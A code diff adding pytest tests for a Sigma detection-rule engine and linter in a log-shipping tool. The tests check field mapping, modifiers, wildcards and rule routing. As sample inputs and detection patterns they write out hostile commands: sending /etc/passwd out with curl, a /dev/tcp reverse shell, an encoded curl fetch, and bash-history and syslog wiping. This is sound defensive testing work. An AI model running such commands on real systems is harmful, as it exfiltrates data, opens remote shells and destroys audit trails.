@@ -1,7 +1,10 @@
 """The live Sigma evaluator and the rule loader, on rules written here."""
 
+import logging
 import textwrap
 from pathlib import Path
+
+import pytest
 
 
 from shipper.cli import main
@@ -20,6 +23,15 @@ detection:
 {detection}
 """
 IDS = ["7a3c6f0e-0000-4000-8000-00000000000%d" % i for i in range(10)]
+
+
+@pytest.fixture(autouse=True)
+def _own_log_handler():
+    """`main()` installs its log handler on pytest's captured stream; put the old ones back."""
+    root = logging.getLogger()
+    handlers = list(root.handlers)
+    yield
+    root.handlers[:] = handlers
 
 
 def rule(tmp_path: Path, detection: str, name: str = "r.yml", rule_id: str = IDS[0], title: str = "t") -> Path:
@@ -174,3 +186,171 @@ def test_value_lists_on_one_field_match_like_their_values_one_by_one(tmp_path):
         assert slow(doc) is expected, name
     assert fast({"process": {"name": ["ls", "zsh"]}}) and not fast({"process": {}})
     assert slow({"process": {"name": "xyz"}}) and not fast({"process": {"name": "xyz"}})
+
+
+LINUX_RULE = """\
+title: {title}
+id: {id}
+level: medium
+logsource: {logsource}
+detection:
+{detection}
+"""
+
+
+def linux_rule(tmp_path: Path, logsource: str, detection: str, name: str = "l.yml", rule_id: str = IDS[5]) -> Path:
+    path = tmp_path / name
+    path.write_text(LINUX_RULE.format(title=name, id=rule_id, logsource=logsource,
+                                      detection=textwrap.indent(textwrap.dedent(detection), "  ")))
+    return path
+
+
+def test_sigmahq_field_names_are_mapped_to_ours_per_category(tmp_path):
+    rules, problems = load_rules([
+        linux_rule(tmp_path, "{product: linux, category: process_creation}", """
+            sel: {Image|endswith: /curl, CommandLine|contains: ' -d ', ParentImage: /bin/bash}
+            condition: sel""", "p.yml", IDS[5]),
+        linux_rule(tmp_path, "{product: linux, category: network_connection}", """
+            sel: {Initiated: 'true', DestinationPort: 4444}
+            condition: sel""", "n.yml", IDS[6]),
+        linux_rule(tmp_path, "{product: linux, category: file_event}", """
+            sel: {TargetFilename|startswith: /etc/cron.d/}
+            condition: sel""", "f.yml", IDS[7])])
+    assert problems == []
+    process, network, file = sorted(rules, key=lambda r: r.path.name)[::-1][0], None, None
+    by_name = {r.path.name: r for r in rules}
+    process, network, file = by_name["p.yml"], by_name["n.yml"], by_name["f.yml"]
+    ours = {"process": {"executable": "/usr/bin/curl", "command_line": "curl -d @/etc/passwd http://x",
+                        "parent": {"executable": "/bin/bash"}}}
+    assert process.matches(ours)
+    assert not process.matches({"Image": "/usr/bin/curl", "CommandLine": "curl -d x", "ParentImage": "/bin/bash"})
+    assert network.matches({"network": {"direction": "egress"}, "destination": {"port": 4444}})
+    assert not network.matches({"network": {"direction": "ingress"}, "destination": {"port": 4444}})
+    assert file.matches({"file": {"path": "/etc/cron.d/job"}}) and not file.matches({"file": {"path": "/etc/x"}})
+
+
+def test_windash_and_base64offset(tmp_path):
+    matches = matcher(tmp_path, """
+      sel_dash: {process.command_line|windash|contains: ' -enc '}
+      sel_b64: {process.command_line|base64offset|contains: 'http://'}
+      condition: 1 of sel_*""")
+    import base64
+    for dash in "-/\u2013\u2014\u2015":
+        assert matches({"process": {"command_line": f"pwsh {dash}enc abc"}}), dash
+    assert not matches({"process": {"command_line": "pwsh enc abc"}})
+    for prefix in ("", "a", "ab"):
+        encoded = base64.b64encode(f"{prefix}curl http://evil".encode()).decode()
+        assert matches({"process": {"command_line": f"echo {encoded} | base64 -d"}}), prefix
+    assert not matches({"process": {"command_line": "echo aGVsbG8= | base64 -d"}})
+
+
+def test_a_lone_wildcard_value_matches_as_its_regex_would(tmp_path):
+    contains = matcher(tmp_path, "sel: {process.command_line: '*CURL*'}\ncondition: sel")
+    starts = matcher(tmp_path, "sel: {process.command_line: 'curl*'}\ncondition: sel")
+    ends = matcher(tmp_path, "sel: {process.command_line: '*/curl'}\ncondition: sel")
+    inner = matcher(tmp_path, "sel: {process.command_line: 'a*b'}\ncondition: sel")
+    doc = lambda text: {"process": {"command_line": text}}  # noqa: E731
+    assert contains(doc("x Curl y")) and not contains(doc("cur l"))
+    assert starts(doc("CURL -s")) and not starts(doc("xcurl"))
+    assert ends(doc("/usr/bin/curl")) and not ends(doc("/usr/bin/curl2"))
+    assert inner(doc("a--B")) and not inner(doc("a--bc"))
+    assert contains(doc(["ls", "curl"])) and not contains({"process": {}})
+
+
+def test_rules_without_a_category_are_routed_or_ignored(tmp_path, capsys):
+    from shipper.detect.engine import RulesEngine, route
+    from shipper.model import Event
+
+    keywords = linux_rule(tmp_path, "{product: linux}", "keywords: ['history -c']\ncondition: keywords",
+                          "k.yml", IDS[5])
+    auditd = linux_rule(tmp_path, "{product: linux, service: auditd}", "sel: {type: EXECVE}\ncondition: sel",
+                        "a.yml", IDS[6])
+    windows = linux_rule(tmp_path, "{product: windows, category: process_creation}",
+                         "sel: {Image|endswith: /x}\ncondition: sel", "w.yml", IDS[7])
+    engine = RulesEngine.from_paths([tmp_path], builtin=False)  # used to crash on a None category
+    assert [rule.path for rule in engine.rules] == [keywords]
+    rules, _ = load_rules([tmp_path])
+    assert {rule.path: route(rule) for rule in rules} == {keywords: "container_log", auditd: None, windows: None}
+    line = Event("l", "2026-11-29T00:00:00Z", "docker_logs", {"message": "$ HISTORY -C"})
+    assert [v.rule_id for v in engine.judge(line).verdicts] == [IDS[5]]
+
+    assert main(["rules", "lint", str(tmp_path)]) == 0
+    out = capsys.readouterr().out
+    assert f"{keywords}: note: no logsource category: its keywords are searched in container log lines" in out
+    assert f"{auditd}:4: logsource: warning: the shipper produces no linux/-/auditd events; the rule is ignored" in out
+    assert f"{windows}:4: logsource: warning: the shipper produces no windows/process_creation/- events" in out
+    assert "3 rules loaded, 2 with warnings, 0 problems" in out
+
+
+def test_lint_warns_about_fields_the_category_never_carries(tmp_path, capsys):
+    path = linux_rule(tmp_path, "{product: linux, category: process_creation}", """
+        sel:
+          Image|endswith: /su
+          LogonId: 0
+          process.parent.name: sshd
+        condition: sel""")
+    assert main(["rules", "lint", str(path)]) == 0
+    out = capsys.readouterr().out
+    assert f"{path}:9: detection: warning: process_creation events never carry LogonId; tests on it never match" in out
+    assert "Image" not in out and "parent" not in out
+    assert main(["rules", "lint", "shipper/rules"]) == 0
+    assert "0 with warnings" in capsys.readouterr().out
+
+
+def test_only_the_branches_an_executable_or_name_can_satisfy_run_and_verdicts_stay_the_same(tmp_path):
+    from shipper.detect.engine import RulesEngine
+    from shipper.model import Event
+
+    path = linux_rule(tmp_path, "{product: linux, category: process_creation}", """
+        sel_tool: {Image|endswith: [/curl, /wget], CommandLine|contains: http}
+        sel_exact: {Image: /usr/bin/NC}
+        sel_any: {CommandLine|contains: /dev/tcp/}
+        filter: {User: root}
+        condition: 1 of sel_* and not filter""")
+    engine = RulesEngine.from_paths([path], builtin=False)
+    rule = engine.rules[0]
+    exe = "process.executable"
+    assert sorted(sorted(keys) for keys, _ in rule.branches if keys) == [[(exe, "curl")], [(exe, "nc")], [(exe, "wget")]]
+    assert [keys for keys, _ in rule.branches].count(None) == 1
+    for executable in ["/usr/bin/curl", "/bin/WGET", "/usr/bin/nc", "/bin/nc", "/bin/sh", "curl", ""]:
+        for command_line in ["x http://a", "sh -i >& /dev/tcp/1.2.3.4/1", "ls"]:
+            for user in ["root", "app"]:
+                doc = {"process": {"executable": executable, "command_line": command_line, "user": {"name": user}}}
+                fired = bool(engine.judge(Event("e", "2026-11-29T00:00:00Z", "processes", doc)).verdicts)
+                assert fired is rule.matches(doc), doc
+    assert engine.judge(Event("e", "t", "processes", {"process": {"executable": "/usr/bin/nc"}})).verdicts
+
+
+def test_rules_on_the_process_name_are_grouped_by_it(tmp_path):
+    from shipper.detect.engine import RulesEngine
+    from shipper.model import Event
+
+    path = linux_rule(tmp_path, "{product: linux, category: process_creation}", """
+        tool: {process.name: [nc, NMAP]}
+        web: {process.name: [curl, wget], process.command_line|contains: '://localhost'}
+        prefix: {process.name|startswith: xmr}
+        condition: (tool or web) and not prefix""")
+    engine = RulesEngine.from_paths([path], builtin=False)
+    rule = engine.rules[0]
+    assert sorted(key for keys, _ in rule.branches for key in keys) == [
+        ("process.name", "curl"), ("process.name", "nc"), ("process.name", "nmap"), ("process.name", "wget")]
+    for name in ["nc", "Nmap", "curl", "wget", "xmrig", "sh", None]:
+        for executable in ["/usr/bin/curl", "/bin/nc", None]:
+            for command_line in ["curl http://localhost/", "nc -l 80"]:
+                process = {"name": name, "executable": executable, "command_line": command_line}
+                doc = {"process": {k: v for k, v in process.items() if v is not None}}
+                fired = bool(engine.judge(Event("e", "t", "processes", doc)).verdicts)
+                assert fired is rule.matches(doc), doc
+
+
+def test_keywords_and_message_values_in_one_or_keep_their_meanings(tmp_path):
+    """Keywords search anywhere in `message`, a `message:` value matches the whole message;
+    gathered into one OR they must not borrow each other's meaning."""
+    matches = matcher(tmp_path, """
+      keywords: ['history -c', 'ln -sf /dev/null *sh_history']
+      whole: {message: ['exact line', 'rm *syslog']}
+      condition: keywords or whole""")
+    for message, expected in [("$ HISTORY -C now", True), ("x; ln -sf /dev/null ~/.bash_history; y", True),
+                              ("exact line", True), ("an exact line", False), ("rm /var/log/syslog", True),
+                              ("sudo rm /var/log/syslog", False), ("ln -sf /dev/zero .bash_history", False)]:
+        assert matches({"message": message}) is expected, message
